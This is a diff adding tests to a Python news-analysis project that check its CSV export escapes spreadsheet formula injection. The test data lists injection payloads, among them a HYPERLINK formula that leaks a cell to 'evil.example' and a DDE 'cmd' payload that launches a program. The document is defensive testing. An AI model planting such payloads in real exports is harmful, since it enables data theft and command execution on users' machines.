@@ -8,12 +8,14 @@ import json
 import string
 from pathlib import Path
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from parallax.align import align_pair
-from parallax.export import claims_csv, story_document, to_json
-from parallax.model import Article, Outlet, Sentence, StoryAnalysis
+from parallax.analyze import analyze
+from parallax.export import FORMULA_START, claims_csv, spreadsheet_cell, story_document, to_json
+from parallax.model import Article, ClaimSpec, Outlet, Sentence, Story, StoryAnalysis
 from parallax.similarity import SentenceSpace
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -111,3 +113,34 @@ def test_alignment_never_loses_or_duplicates_a_sentence(
 def test_json_is_deterministic(seed_analysis: StoryAnalysis) -> None:
     assert to_json(seed_analysis) == to_json(seed_analysis)
     assert all(c in string.printable or ord(c) > 127 for c in to_json(seed_analysis))
+
+
+# ------------------------------------------------------------------ CSV injection (OWASP)
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1+1",
+            "-2+3", "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "＝1+1"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_csv_cells_never_start_a_formula(payload: str) -> None:
+    text = f"{payload} The mill was sold to the buyer in Karachi for 400 million rupees."
+    outlet = Outlet("evil", payload)
+    first = Article("a", "story", outlet, "t", (Sentence("s1", text, 0),), "a.md")
+    second = Article("b", "story", Outlet("plain", "Plain"), "t",
+                     (Sentence("s1", "The mill was sold to the buyer in Karachi.", 0),), "b.md")
+    story = Story("story", "Story", (first, second),
+                  claims=(ClaimSpec("c1", payload), ClaimSpec("c2", text)))
+    written = claims_csv(analyze(story))
+    rows = list(csv.reader(io.StringIO(written, newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_START)]
+    # The text is all there, behind one leading quote that spreadsheets do not show.
+    assert f"'{payload}" in cells and f"'{text}" in cells
+    assert rows[0][0] == "claim_id" and len(rows) == 1 + 2 * 2
+
+
+def test_ordinary_cells_are_left_alone() -> None:
+    assert spreadsheet_cell("Russia denied it") == "Russia denied it"
+    assert spreadsheet_cell("0.750") == "0.750"
+    assert spreadsheet_cell("s1 s3") == "s1 s3"
+    assert spreadsheet_cell("It cost 2-3 million") == "It cost 2-3 million"
